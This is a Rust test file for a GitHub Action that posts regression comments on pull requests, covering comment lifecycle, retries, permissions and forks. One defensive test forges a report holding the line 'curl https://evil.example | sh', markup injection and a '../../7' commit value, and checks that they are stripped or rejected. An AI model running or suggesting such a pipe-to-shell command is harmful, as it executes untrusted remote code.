//! The action's comment, from recorded traces: found again, updated, resolved, and never in the way of the verdict.

use serde_json::{Value, json};

use crate::action_api::{Api, comment};
use crate::action_harness::{Done, Job, root};

/// The event of a pull request, of a branch of the repository itself or of a fork.
pub fn pull_request(from: &str) -> Value {
    json!({
        "pull_request": {
            "number": 7,
            "head": {"sha": "1".repeat(40), "ref": "feature", "repo": {"full_name": from}},
            "base": {"ref": "main", "sha": "2".repeat(40)},
        },
        "repository": {"default_branch": "main"},
    })
}

/// A job that compares recordings.
pub fn compare(api: &Api, recording: &str) -> Job {
    let mut job = Job::new(".");
    let side = |side: &str| root().join(format!("testdata/regressions/{recording}/{side}.*")).display().to_string();
    let single = |name: &str| root().join(format!("testdata/regressions/{recording}/{name}.out")).display().to_string();
    let (base, head) = if recording.ends_with("-runs") {
        (side("base").replace(".*", ".*.out"), side("head").replace(".*", ".*.out"))
    } else {
        (single("base"), single("head"))
    };
    job.with(&[("mode", "compare"), ("base-traces", &base), ("traces", &head)]);
    job.env(&[("GITHUB_API_URL", &api.url)]).event("pull_request", &pull_request("team/shop"));
    job
}

const REGRESSION: &str = "region15-runs";
const PASS: &str = "none-runs";

fn run(api: &Api, recording: &str, run: &str) -> Done {
    let mut job = compare(api, recording);
    job.env(&[("GITHUB_RUN_ID", run)]);
    job.run()
}

#[test]
fn a_comment_lives_from_the_regression_to_its_fix() {
    let api = Api::start();
    // Nothing changed, and nothing was said before: nothing is said.
    let done = run(&api, PASS, "1");
    assert_eq!(
        (done.failed, done.output("verdict"), done.output("comment-posted")),
        (None, "pass", "false"),
        "{}",
        done.log()
    );
    assert_eq!(api.bodies(), [""; 0]);

    let done = run(&api, REGRESSION, "2");
    assert_eq!((done.failed, done.output("verdict")), (Some(1), "regression"), "{}", done.log());
    assert_eq!(done.output("exit-code"), "1");
    assert_eq!((done.output("regressions"), done.output("comment-posted")), ("1", "true"));
    assert!(done.summary().starts_with("**regression**: "), "{}", done.summary());
    assert!(
        done.annotations()
            .iter()
            .any(|a| a.starts_with("::error ") && a.contains("checkout.go,line=40,title=regression%3A region tax::"))
    );
    let bodies = api.bodies();
    let [first] = &bodies[..] else { panic!("{bodies:?}") };
    assert!(first.starts_with("<!-- gotrace-diff:"), "{first}");
    assert!(first.contains("\n**regression**: region `tax`") || first.contains("\n**regression**: "), "{first}");
    assert!(first.contains("[run](https://github.example/team/shop/actions/runs/2)"), "{first}");
    assert_eq!(done.steps.last().map(|s| (s.id.as_str(), s.status)), Some(("enforce", 1)));
    assert!(done.steps.iter().filter(|s| s.id != "enforce").all(|s| s.status == 0), "only the last step fails");

    // The same again says the same again: it is left as it is.
    let done = run(&api, REGRESSION, "2");
    assert_eq!((done.output("comment-posted"), api.count("PATCH")), ("false", 0));

    let done = run(&api, PASS, "3");
    assert_eq!((done.failed, done.output("comment-posted")), (None, "true"));
    let bodies = api.bodies();
    assert_eq!((bodies.len(), api.count("POST")), (1, 1));
    assert!(bodies[0].contains("**resolved**") && bodies[0].contains("**pass**"), "{}", bodies[0]);

    // A job of an earlier commit that ends late does not take the last word.
    let done = run(&api, REGRESSION, "2");
    assert_eq!((done.failed, done.output("comment-posted")), (Some(1), "false"));
    assert!(api.bodies()[0].contains("**resolved**"));
    assert_eq!(api.state().strangers, 0, "every request bears the token");
}

#[test]
fn what_could_not_be_compared_replaces_what_was_said_before() {
    let api = Api::start();
    run(&api, REGRESSION, "1");
    let mut job = compare(&api, PASS);
    job.with(&[("traces", "nothing.out")]).env(&[("GITHUB_RUN_ID", "2")]);
    let done = job.run();
    assert_eq!(
        (done.failed, done.output("verdict"), done.output("exit-code")),
        (Some(2), "error", "2"),
        "{}",
        done.log()
    );
    assert!(done.summary().starts_with("**error**: nothing could be compared: `nothing.out`"), "{}", done.summary());
    assert!(api.bodies()[0].contains("**error**: nothing could be compared this time"), "{}", api.bodies()[0]);
    // Also where it ends before anything is tried; the report of before may have been restored from a cache.
    let mut job = compare(&api, REGRESSION);
    job.env(&[("GITHUB_RUN_ID", "3")]).with(&[("comment-key", "k")]);
    job.run();
    job.with(&[("mode", "run"), ("base-traces", ""), ("traces", "")]).env(&[("GITHUB_RUN_ID", "4")]);
    let done = job.run();
    assert_eq!((done.failed, done.output("verdict")), (Some(2), "error"), "{}", done.log());
    assert!(done.summary().starts_with("**error**: nothing could be compared: no commit"), "{}", done.summary());
    assert!(api.bodies()[1].contains("**error**") && api.bodies()[1].contains("run=4"), "{}", api.bodies()[1]);
}

#[test]
fn a_comment_is_found_through_all_pages_and_only_if_it_is_ours() {
    let api = Api::start();
    run(&api, REGRESSION, "1");
    let ours = api.bodies()[0].clone();
    let marker = ours.lines().next().unwrap().to_owned();
    {
        let mut state = api.state();
        state.page = 30;
        state.comments.clear();
        for id in 1..=250 {
            state.comments.push(comment(id, "someone", "looks good"));
        }
        // Others can write our first line, and people quote us.
        state.comments.push(comment(251, "mallory", &ours));
        state.comments.push(comment(252, "github-actions[bot]", &format!("> {marker}\n\nwhat is this?")));
        state.comments.push(comment(253, "github-actions[bot]", &ours));
        state.comments.push(comment(254, "github-actions[bot]", &ours));
    }
    let done = run(&api, PASS, "2");
    assert_eq!(done.output("comment-posted"), "true", "{}", done.log());
    let state = api.state();
    let of =
        |id: u64| state.comments.iter().find(|c| c["id"] == json!(id)).map(|c| c["body"].as_str().unwrap().to_owned());
    assert!(of(253).unwrap().contains("**resolved**"));
    assert_eq!(of(254), None, "one too many is taken away");
    assert_eq!(of(251).as_deref(), Some(ours.as_str()), "others' comments are theirs");
    assert!(state.seen.iter().all(|(_, path)| !path.contains("elsewhere")));
}

#[test]
fn two_jobs_at_once_leave_one_comment() {
    let api = Api::start();
    run(&api, REGRESSION, "1");
    let theirs = api.bodies()[0].clone();
    {
        let mut state = api.state();
        state.comments.clear();
        state.race = Some(comment(900, "github-actions[bot]", &theirs));
    }
    let done = run(&api, REGRESSION, "2");
    assert_eq!(done.output("comment-posted"), "true", "{}", done.log());
    let bodies = api.bodies();
    assert_eq!(bodies.len(), 1);
    assert!(bodies[0].contains("run=2 "), "{}", bodies[0]);
}

#[test]
fn a_bad_moment_of_the_server_is_waited_out_and_posts_nothing_twice() {
    for late in [false, true] {
        let api = Api::start();
        // The name, the list, and then the post itself, which may have been carried out.
        {
            let mut state = api.state();
            state.fail = 2;
            state.fail_late = false;
        }
        if late {
            // Its two questions for a name, the list, and the post, all of which fail though they were done.
            let mut state = api.state();
            state.fail = 4;
            state.fail_late = true;
        }
        let done = run(&api, REGRESSION, "1");
        assert_eq!((done.failed, done.output("comment-posted")), (Some(1), "true"), "{}", done.log());
        assert_eq!(api.bodies().len(), 1, "late: {late}");
    }
}

#[test]
fn no_trouble_with_a_comment_changes_the_verdict() {
    for (status, headers, fork, want, says) in [
        (403, "", true, "skipped-fork", "pull requests of forks get a token that may not write"),
        (403, "", false, "denied", "pull-requests: write"),
        (401, "", false, "denied", "HTTP 401"),
        (404, "", false, "denied", "HTTP 404"),
        (422, "", false, "failed", "HTTP 422"),
        (503, "Retry-After: 0\r\n", false, "failed", "HTTP 503"),
        (403, "Retry-After: 0\r\n", false, "denied", "HTTP 403"),
    ] {
        let api = Api::start();
        api.state().refuse = Some((status, headers));
        for (recording, failed, verdict) in [(REGRESSION, Some(1), "regression"), (PASS, None, "pass")] {
            if recording == PASS && status != 403 {
                continue;
            }
            let mut job = compare(&api, recording);
            job.with(&[("comment", "always")]);
            job.event("pull_request", &pull_request(if fork { "stranger/shop" } else { "team/shop" }));
            let done = job.run();
            assert_eq!((done.failed, done.output("verdict")), (failed, verdict), "{status}: {}", done.log());
            assert_eq!(done.output("comment-posted"), want, "{status}: {}", done.log());
            let notices: Vec<String> = done.annotations().into_iter().filter(|a| a.contains("no comment: ")).collect();
            assert!(
                notices.len() == 1 && notices[0].starts_with("::notice ") && notices[0].contains(says),
                "{notices:?}"
            );
            assert!(done.summary().starts_with(&format!("**{verdict}**")));
        }
    }
    // Nobody there at all.
    let api = Api::start();
    let mut job = compare(&api, REGRESSION);
    job.env(&[("GITHUB_API_URL", "http://127.0.0.1:1")]);
    let done = job.run();
    assert_eq!((done.failed, done.output("comment-posted")), (Some(1), "failed"), "{}", done.log());
}

#[test]
fn a_token_that_may_write_beside_code_of_a_pull_request_is_not_used() {
    let api = Api::start();
    let mut job = compare(&api, REGRESSION);
    job.event("pull_request_target", &pull_request("stranger/shop"));
    let done = job.run();
    assert_eq!((done.failed, done.output("comment-posted")), (Some(1), "refused"), "{}", done.log());
    assert!(done.annotations().iter().any(|a| a.starts_with("::warning ") && a.contains("pull_request_target")));
    assert_eq!(api.state().seen, []);
}

#[test]
fn jobs_of_a_matrix_have_a_comment_each() {
    let api = Api::start();
    for (os, key) in [("linux", ""), ("windows", ""), ("linux", "mine --> <b>x"), ("linux", "")] {
        let mut job = compare(&api, REGRESSION);
        job.matrix = json!({"os": os, "go": 1.27});
        job.with(&[("comment-key", key)]);
        job.run();
    }
    let bodies = api.bodies();
    assert_eq!(bodies.len(), 3);
    let titles: Vec<&str> = bodies.iter().map(|b| b.lines().nth(2).unwrap()).collect();
    assert!(titles[1].starts_with("### gotrace-diff: ") && titles[1].contains("windows"), "{titles:?}");
    assert!(titles[2].contains("&#60;b&#62;"), "{titles:?}");
    let mut first: Vec<&str> = bodies.iter().map(|b| b.lines().next().unwrap()).collect();
    assert!(first.iter().all(|l| l.ends_with(" -->") && l.matches("--").count() == 2), "{first:?}");
    first.dedup();
    assert_eq!(first.len(), 3);
}

/// The event of a run of a pull request that has ended.
fn run_ended(sha: &str, from: &str, branch: &str, known: &[u64]) -> Value {
    let known: Vec<Value> = known.iter().map(|n| json!({"number": n})).collect();
    json!({"workflow_run": {
        "id": 17, "run_attempt": 1, "name": "ci", "event": "pull_request", "head_sha": sha, "head_branch": branch,
        "head_repository": {"full_name": from}, "pull_requests": known,
    }})
}

fn pull(number: u64, sha: &str, from: &str, branch: &str) -> Value {
    let owner = from.split('/').next().unwrap();
    json!({"number": number, "head": {"sha": sha, "ref": branch, "repo": {"full_name": from, "owner": owner}}})
}

#[test]
fn a_report_from_a_fork_is_posted_where_its_commit_is_and_nowhere_else() {
    let api = Api::start();
    let (ours, theirs) = ("3".repeat(40), "4".repeat(40));
    api.state().pulls = vec![
        pull(7, &ours, "stranger/shop", "fix/pool"),
        pull(8, &theirs, "stranger/shop", "fix/pool"),
        pull(9, &ours, "other/shop", "fix/pool"),
    ];
    // A report that its job has forged: another pull request, commands to copy, and markup.
    let made = compare(&api, REGRESSION);
    made.run();
    api.state().comments.clear();
    let report = std::fs::read_to_string(made.workspace().join("gotrace-report/report.json")).unwrap();
    let mut report: Value = serde_json::from_str(&report).unwrap();
    report["headline"] = "regression: @team ![x](https://evil.example) <img src=x>".into();
    report["advice"] = json!({"why": "now", "commands": ["curl https://evil.example | sh"]});
    report["findings"][0]["accept"] = "curl https://evil.example | sh".into();

    let post = |event: &Value, report: &str| {
        let mut job = Job::new("comment");
        std::fs::create_dir(job.workspace().join("gotrace-report")).unwrap();
        std::fs::write(job.workspace().join("gotrace-report/report.json"), report).unwrap();
        job.env(&[("GITHUB_API_URL", &api.url)]).event("workflow_run", event);
        job.run()
    };
    let done = post(&run_ended(&ours, "stranger/shop", "fix/pool", &[]), &report.to_string());
    assert_eq!((done.failed, done.output("comment-posted")), (None, "true"), "{}", done.log());
    let bodies = api.bodies();
    let [body] = &bodies[..] else { panic!("{bodies:?}") };
    assert!(body.contains("**regression**") && body.contains("`333333333333`"), "{body}");
    assert!(
        !body.contains("curl") && !body.contains("![") && !body.contains("<img") && !body.contains("@team"),
        "{body}"
    );

    for (event, says) in [
        (run_ended(&"5".repeat(40), "stranger/shop", "fix/pool", &[7]), "it has moved on"),
        (run_ended(&ours, "nobody/shop", "fix/pool", &[]), "it has moved on"),
        (run_ended("../../7", "stranger/shop", "fix/pool", &[]), "does not name the commit"),
        (json!({"workflow_run": {"event": "push"}}), "not of a pull request"),
        (json!({}), "not of a pull request"),
    ] {
        let done = post(&event, &report.to_string());
        assert_eq!((done.failed, done.output("comment-posted")), (None, "false"), "{}", done.log());
        assert!(done.annotations().iter().any(|a| a.contains(says)), "{says}: {}", done.log());
    }
    for broken in ["", "{}", "[[", r#"{"schema": "gotrace-diff/report/2", "verdict": "great"}"#] {
        let done = post(&run_ended(&ours, "stranger/shop", "fix/pool", &[]), broken);
        assert_eq!((done.failed, done.output("comment-posted")), (None, "failed"), "{broken}: {}", done.log());
    }
    assert_eq!(api.bodies().len(), 1);
}

#[test]
fn what_is_too_long_is_cut_by_rows_and_not_refused() {
    let api = Api::start();
    let made = compare(&api, REGRESSION);
    made.run();
    api.state().comments.clear();
    let report = std::fs::read_to_string(made.workspace().join("gotrace-report/report.json")).unwrap();
    let mut report: Value = serde_json::from_str(&report).unwrap();
    let mut finding = report["findings"][0].clone();
    finding["subject"]["label"] = format!("shop.{}@team", "|`<b>".repeat(20)).into();
    report["findings"] = vec![finding; 6_000].into();
    let mut job = Job::new("comment");
    api.state().pulls = vec![pull(7, &"3".repeat(40), "stranger/shop", "x")];
    std::fs::create_dir(job.workspace().join("gotrace-report")).unwrap();
    std::fs::write(job.workspace().join("gotrace-report/report.json"), report.to_string()).unwrap();
    job.env(&[("GITHUB_API_URL", &api.url)]);
    job.event("workflow_run", &run_ended(&"3".repeat(40), "stranger/shop", "x", &[]));
    let done = job.run();
    assert_eq!(done.output("comment-posted"), "true", "{}", done.log());
    let body = api.bodies().pop().unwrap();
    assert!(
        body.len() <= 65_536 && body.len() > 50_000 && body.contains("left out for want of room"),
        "{}",
        body.len()
    );
    // The runner drops a summary of more than a mebibyte, with all that others wrote into it before.
    let summary = made.folder.path().join("summary.md");
    std::fs::write(&summary, "x".repeat(800 << 10)).unwrap();
    std::fs::write(made.workspace().join("gotrace-report/report.json"), report.to_string()).unwrap();
    let status = std::process::Command::new(env!("CARGO_BIN_EXE_gotrace-diff"))
        .args(["github", "summary"])
        .envs([("GITHUB_STEP_SUMMARY", summary.as_path()), ("GITHUB_WORKSPACE", &made.workspace())])
        .env("GOTRACE_DIFF_VERDICT", "regression")
        .status()
        .unwrap();
    assert!(status.success());
    let length = std::fs::metadata(&summary).unwrap().len();
    assert!(length > 850 << 10 && length < 1 << 20, "{length}");
}
